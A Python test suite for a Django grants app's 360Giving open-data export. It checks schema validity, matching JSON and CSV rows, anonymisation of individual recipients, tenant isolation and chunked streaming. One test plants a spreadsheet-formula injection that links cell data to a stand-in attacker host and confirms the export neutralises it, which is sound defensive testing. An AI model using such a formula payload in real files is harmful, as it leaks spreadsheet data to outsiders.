"""The 360Giving export: /open-data/grants.json and /open-data/grants.csv.

It validates against the standard's own schemas (../shared/standards/360giving,
CC BY 4.0), carries the same rows in both formats, names no individual and no
personal data (invariant 5), exists only where Sabilulungan is in use, and
streams in chunks.
"""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django_tenants.utils import schema_context
from jsonschema import Draft202012Validator
from referencing import Registry
from referencing.jsonschema import DRAFT202012

from grants import open_data, services
from grants.models import Applicant, Program, Proposal, ProposalDocument
from tests.conftest import host_client
from tests.grants.conftest import (
    PDF,
    make_applicant,
    make_program,
    make_proposal,
    through_review,
    today,
)

pytestmark = pytest.mark.django_db

# A copy of ../shared/standards/360giving (CC BY 4.0, see LICENSE.md there), so
# the suite runs from any checkout.
STANDARD = Path(__file__).resolve().parent / "data" / "360giving"
NIK = "3273010101900001"
ORG_BANK_ACCOUNT = "0012345678901"
IND_BANK_ACCOUNT = "7700112233445"
NPWP = "01.234.567.8-901.000"
INDIVIDUAL = "Siti Rahmawati"
ADDRESS = "Jl. Cihampelas Gg. Melati No. 17"


# --- the schema ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def validator() -> Draft202012Validator:
    """The package schema, its `items` $ref resolved to the local grant schema."""
    package = json.loads((STANDARD / "360-giving-package-schema.json").read_text())
    grant = json.loads((STANDARD / "360-giving-schema.json").read_text())
    resource = DRAFT202012.create_resource(grant)
    registry = Registry().with_resources(
        [
            # The package refers to 1.4.2 by URL; the file names itself 1.4.3.
            (package["properties"]["grants"]["items"]["$ref"], resource),
            (grant["$id"], resource),
        ]
    )
    assert "date-time" in Draft202012Validator.FORMAT_CHECKER.checkers, (
        "install rfc3339-validator (requirements-dev.txt) to check date-time formats"
    )
    return Draft202012Validator(
        package,
        registry=registry,
        format_checker=Draft202012Validator.FORMAT_CHECKER,
    )


def errors(validator, document) -> list[str]:
    return [
        f"{'/'.join(map(str, e.absolute_path))}: {e.message}"
        for e in validator.iter_errors(document)
    ]


# --- a tenant with grants in every state ---------------------------------------------


def enable_sabilulungan(tenant):
    """Bandung publishes Sabilulungan, so its module (and open data) exists there."""
    from tests.catalog.conftest import make_app

    connection.set_schema_to_public()
    make_app(
        tenant, slug="sabilulungan", delivery_mode="hosted", hosted_module="grants"
    )
    connection.set_tenant(tenant)


def upload(proposal, kind: str, name: str = "dokumen.pdf") -> ProposalDocument:
    return ProposalDocument.objects.create(
        proposal=proposal,
        kind=kind,
        file=ContentFile(PDF, name=name),
        content_type="application/pdf",
        size=len(PDF),
        uploaded_by_id=proposal.applicant.user_id,
    )


def step(tenant, user, proposal, action, **kwargs):
    return services.proposal_transition(
        tenant=tenant, actor_user=user, proposal=proposal, action=action, **kwargs
    )


@pytest.fixture
def grants_in_bandung(in_bandung, officials):
    enable_sabilulungan(in_bandung)
    tenant, people = in_bandung, officials
    hibah = make_program(tenant, people["admin"], name="Hibah Balai Warga")
    bansos = make_program(
        tenant, people["admin"], name="Bansos Warga Rentan", kind="bansos"
    )
    organisation = make_applicant(
        "Yayasan Sabilulungan Mandiri",
        npwp=NPWP,
        bank_account=ORG_BANK_ACCOUNT,
        address="Jl. Asia Afrika No. 1",
    )
    person = make_applicant(
        INDIVIDUAL,
        kind="individual",
        nik=NIK,
        address=ADDRESS,
        bank_account=IND_BANK_ACCOUNT,
        kecamatan="Coblong",
        kelurahan="Cipaganti",
    )

    # 1. An organisation's hibah: approved, agreement signed, one tranche paid.
    disbursed = make_proposal(hibah, organisation, amount=10_000_000, tenant=tenant)
    disbursed = through_review(tenant, people, disbursed, 9_000_000)
    disbursed = step(
        tenant, people["kepala_daerah"], disbursed, "approve", amount=8_000_000
    )
    upload(disbursed, "nphd", "nphd-yayasan.pdf")
    disbursed = step(
        tenant,
        people["tata_usaha"],
        disbursed,
        "sign_agreement",
        nphd_number="NPHD/001/2026",
        nphd_date=today(),
    )
    disbursed = step(
        tenant,
        people["treasurer"],
        disbursed,
        "disburse",
        amount=5_000_000,
        paid_on=today(),
        transfer_reference="TRF-RAHASIA-77",
    )

    # 2. Bansos to an individual: approved, nothing paid yet.
    aid = make_proposal(bansos, person, amount=2_500_000, tenant=tenant)
    aid = through_review(tenant, people, aid, 2_000_000)
    aid = step(tenant, people["kepala_daerah"], aid, "approve", amount=2_000_000)

    # 3. Rejected, 4. still a draft, 5. still in review: none of them is a grant.
    rejected = make_proposal(hibah, make_applicant("Karang Taruna"), tenant=tenant)
    rejected = step(
        tenant, people["tata_usaha"], rejected, "reject", note="Tidak lengkap"
    )
    draft = make_proposal(hibah, make_applicant("Paguyuban"), submit=False)
    in_review = make_proposal(hibah, make_applicant("RW 05"), tenant=tenant)

    return {
        "disbursed": disbursed,
        "aid": aid,
        "rejected": rejected,
        "draft": draft,
        "in_review": in_review,
        "organisation": organisation,
        "person": person,
    }


def get_text(host: str, path: str):
    response = host_client(host).get(path)
    assert response.status_code == 200, path
    assert isinstance(response, StreamingHttpResponse)
    return response, b"".join(response.streaming_content).decode("utf-8")


def grant_ids(package: dict) -> list[str]:
    return [grant["id"] for grant in package["grants"]]


# --- tests ---------------------------------------------------------------------------


def test_json_is_a_valid_360giving_package_of_the_awarded_grants(
    grants_in_bandung, validator
):
    response, text = get_text("bandung.localhost", "/open-data/grants.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "grants.json" in response["Content-Disposition"]
    package = json.loads(text)
    assert errors(validator, package) == []

    disbursed, aid = grants_in_bandung["disbursed"], grants_in_bandung["aid"]
    # Only awarded proposals are grants, in id order, under the tenant's prefix.
    assert grant_ids(package) == [
        f"360G-bagipakai-bandung-{disbursed.pk}",
        f"360G-bagipakai-bandung-{aid.pk}",
    ]
    to_org, to_person = package["grants"]
    assert package["publisher"]["name"] == "Kota Bandung"
    assert package["license"].startswith("https://creativecommons.org/")

    assert to_org["currency"] == "IDR"
    assert (
        to_org["amountAppliedFor"],
        to_org["amountAwarded"],
        to_org["amountDisbursed"],
    ) == (10_000_000, 8_000_000, 5_000_000)
    assert to_org["awardDate"] == today().isoformat()
    organisation = Applicant.objects.get(user_id=grants_in_bandung["organisation"].pk)
    assert to_org["recipientOrganization"] == [
        {
            "id": f"360G-bagipakai-bandung-ORG-{organisation.pk}",
            "name": "Yayasan Sabilulungan Mandiri",
        }
    ]
    assert "recipientIndividual" not in to_org
    assert to_org["fundingOrganization"][0]["name"] == "Kota Bandung"
    assert to_org["grantProgramme"][0]["title"] == "Hibah Balai Warga"
    assert to_org["beneficiaryLocation"] == [
        {"name": "Braga, Sumur Bandung", "countryCode": "ID"}
    ]
    assert to_org["classifications"][0]["code"] == "hibah"

    # Bansos to a person: anonymised, never an organisation.
    assert (to_person["amountAwarded"], to_person["amountDisbursed"]) == (
        2_000_000,
        0,
    )
    assert "recipientOrganization" not in to_person
    assert to_person["recipientIndividual"] == {
        "id": f"360G-bagipakai-bandung-{aid.pk}-IND",
        "name": "S*** R***",
    }
    assert to_person["toIndividualsDetails"] == {"grantPurpose": ["GTIP010"]}
    assert to_person["classifications"][0]["code"] == "bansos"


def test_the_schema_check_is_real(grants_in_bandung, validator):
    """The validator sees into each grant: broken grants are refused."""
    _, text = get_text("bandung.localhost", "/open-data/grants.json")
    package = json.loads(text)
    for breakage in (
        lambda g: g.pop("awardDate"),
        lambda g: g.update(awardDate="2026-13-01"),
        lambda g: g.update(currency="Rp"),
        lambda g: g.update(dateModified="2026-01-01"),  # needs a full date-time
        lambda g: g.update(recipientIndividual={"id": "x", "name": "y"}),  # both
    ):
        broken = copy.deepcopy(package)
        breakage(broken["grants"][0])
        assert errors(validator, broken), breakage


def test_csv_carries_the_same_rows(grants_in_bandung):
    _, json_text = get_text("bandung.localhost", "/open-data/grants.json")
    response, text = get_text("bandung.localhost", "/open-data/grants.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Access-Control-Allow-Origin"] == "*"
    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(text)))
    package = json.loads(json_text)
    assert [row["Identifier"] for row in rows] == grant_ids(package)
    for row, grant in zip(rows, package["grants"], strict=True):
        assert row["Amount Awarded"] == str(grant["amountAwarded"])
        assert row["Amount Applied For"] == str(grant["amountAppliedFor"])
        assert row["Amount Disbursed"] == str(grant["amountDisbursed"])
        assert row["Award Date"] == grant["awardDate"]
        assert row["Currency"] == "IDR"
        assert row["Funding Org:Name"] == "Kota Bandung"
    to_org, to_person = rows
    assert to_org["Recipient Org:Name"] == "Yayasan Sabilulungan Mandiri"
    assert to_org["Recipient Ind:Name"] == ""
    assert to_person["Recipient Org:Identifier"] == ""
    assert to_person["Recipient Ind:Name"] == "S*** R***"
    # An individual's village is left out, and their own words with it.
    assert to_person["Beneficiary Location:Name"] == "Sumur Bandung"
    assert to_person["Description"] == "Bansos Warga Rentan (Social aid (bansos))"
    assert to_org["Beneficiary Location:Name"] == "Braga, Sumur Bandung"
    assert to_person["Grant Programme:Title"] == "Bansos Warga Rentan"


def test_csv_cells_never_run_as_spreadsheet_formulas(grants_in_bandung):
    formula = '=HYPERLINK("https://jahat.example/?"&A1,"klik")'
    Proposal.objects.filter(pk=grants_in_bandung["aid"].pk).update(title=formula)
    _, json_text = get_text("bandung.localhost", "/open-data/grants.json")
    _, text = get_text("bandung.localhost", "/open-data/grants.csv")
    assert json.loads(json_text)["grants"][1]["title"] == formula
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[1]["Title"] == "'" + formula


def test_no_personal_data_in_either_export(grants_in_bandung):
    """Invariant 5: no NIK, address, bank detail, e-mail, document or real name."""
    _, json_text = get_text("bandung.localhost", "/open-data/grants.json")
    _, csv_text = get_text("bandung.localhost", "/open-data/grants.csv")
    person = Applicant.objects.get(user_id=grants_in_bandung["person"].pk)
    organisation = Applicant.objects.get(user_id=grants_in_bandung["organisation"].pk)
    files = list(ProposalDocument.objects.values_list("file", flat=True))
    assert files
    secrets = [
        NIK,
        ORG_BANK_ACCOUNT,
        IND_BANK_ACCOUNT,
        "Bank BJB",
        NPWP,
        ADDRESS,
        "Jl. Asia Afrika",
        INDIVIDUAL,
        "Siti",
        "Rahmawati",
        "Cipaganti",  # the person's own kelurahan (the activity's is published)
        grants_in_bandung["person"].email,
        grants_in_bandung["organisation"].email,
        "TRF-RAHASIA-77",
        "nphd-yayasan.pdf",
        "dokumen.pdf",
        "x.pdf",
        *files,
        *(Path(name).name for name in files),
    ]
    assert person.nik == NIK and organisation.npwp == NPWP
    for text in (json_text, csv_text):
        for secret in secrets:
            assert secret not in text, secret


def test_only_where_sabilulungan_is_in_use(grants_in_bandung, tangerang):
    for path in ("/open-data/grants.json", "/open-data/grants.csv"):
        response = host_client("tangerang.localhost").get(path)
        assert response.status_code == 404, path
        assert "does not use this app" in response.content.decode()


def test_each_tenant_exports_only_its_own_grants(grants_in_bandung, tangerang):
    from catalog.models import CatalogApp
    from tests.catalog.conftest import make_active_adoption

    connection.set_schema_to_public()
    make_active_adoption(CatalogApp.objects.get(slug="sabilulungan"), tangerang)
    with schema_context(tangerang.schema_name):
        program, applicant = program_and_applicant("Hibah Tangerang")
        Proposal.objects.bulk_create(awarded(program, applicant, 1))
    _, bandung_text = get_text("bandung.localhost", "/open-data/grants.json")
    _, tangerang_text = get_text("tangerang.localhost", "/open-data/grants.json")
    (tangerang_grant,) = json.loads(tangerang_text)["grants"]
    assert tangerang_grant["id"].startswith("360G-bagipakai-tangerang-")
    assert tangerang_grant["fundingOrganization"][0]["name"] == (
        "Kota Tangerang"
    )
    assert "Hibah Tangerang" not in bandung_text
    assert "tangerang" not in bandung_text.lower()
    assert all(
        g["id"].startswith("360G-bagipakai-bandung-")
        for g in json.loads(bandung_text)["grants"]
    )


def test_a_tenant_without_awards_gets_an_empty_package(in_bandung):
    enable_sabilulungan(in_bandung)
    _, text = get_text("bandung.localhost", "/open-data/grants.json")
    package = json.loads(text)
    assert package["grants"] == [] and package["version"] == "1.4"
    _, csv_text = get_text("bandung.localhost", "/open-data/grants.csv")
    (header,) = list(csv.reader(io.StringIO(csv_text)))
    assert header[:4] == ["Identifier", "Title", "Description", "Currency"]


# --- volume: streamed in chunks, never loaded whole ------------------------------------


def program_and_applicant(name="Hibah Massal"):
    now = timezone.localdate()
    program = Program.objects.create(
        name=name,
        kind="hibah",
        fiscal_year=now.year,
        budget=10**15,
        responsible_unit="Bagian Kesra",
        opens_on=now,
        closes_on=now,
        status="open",
    )
    applicant = Applicant.objects.create(
        user_id=10**9 + Applicant.objects.count(),
        kind="organisation",
        name="Yayasan Massal",
        address="Jl. Rahasia 1",
        kecamatan="Andir",
        kelurahan="Ciroyom",
    )
    return program, applicant


def awarded(program, applicant, count):
    now = timezone.now()
    return [
        Proposal(
            program=program,
            applicant=applicant,
            title=f"Kegiatan {i}",
            background="Latar",
            purpose="Tujuan",
            kecamatan="Andir",
            kelurahan="Ciroyom",
            requested_amount=1_000_000,
            recommended_amount=1_000_000,
            approved_amount=1_000_000,
            status=Proposal.Status.APPROVED,
            decided_at=now,
            updated_at=now,
        )
        for i in range(count)
    ]


def proposal_row_queries(queries) -> list[str]:
    return [
        q["sql"]
        for q in queries
        if 'FROM "grants_proposal"' in q["sql"]
        and '"grants_proposal"."title"' in q["sql"]
    ]


@pytest.mark.parametrize("path", ["/open-data/grants.json", "/open-data/grants.csv"])
def test_thousands_of_proposals_stream_in_chunks(in_bandung, path):
    enable_sabilulungan(in_bandung)
    program, applicant = program_and_applicant()
    count, size = 2_000, open_data.CHUNK_SIZE
    assert count > 3 * size
    Proposal.objects.bulk_create(awarded(program, applicant, count), batch_size=1000)

    with CaptureQueriesContext(connection) as captured:
        response = host_client("bandung.localhost").get(path)
        assert isinstance(response, StreamingHttpResponse)
        # Nothing is read before the body is consumed...
        assert proposal_row_queries(captured.captured_queries) == []
        pieces = iter(response.streaming_content)
        body = [next(pieces)]
        while b"Kegiatan" not in body[-1]:
            body.append(next(pieces))
        # ...the first grants go out after one chunk has been read...
        assert len(proposal_row_queries(captured.captured_queries)) == 1
        body.extend(pieces)
    # ...and every read is one LIMITed chunk, never the whole table.
    reads = proposal_row_queries(captured.captured_queries)
    assert len(reads) >= count // size
    assert all(f"LIMIT {size}" in sql for sql in reads), reads
    assert not any("applicant" in sql and '"nik"' in sql for sql in reads)

    text = b"".join(body).decode()
    if path.endswith(".json"):
        ids = grant_ids(json.loads(text))
    else:
        ids = [row["Identifier"] for row in csv.DictReader(io.StringIO(text))]
    assert len(ids) == len(set(ids)) == count
    pks = list(Proposal.objects.order_by("pk").values_list("pk", flat=True))
    assert ids == [f"360G-bagipakai-bandung-{pk}" for pk in pks]
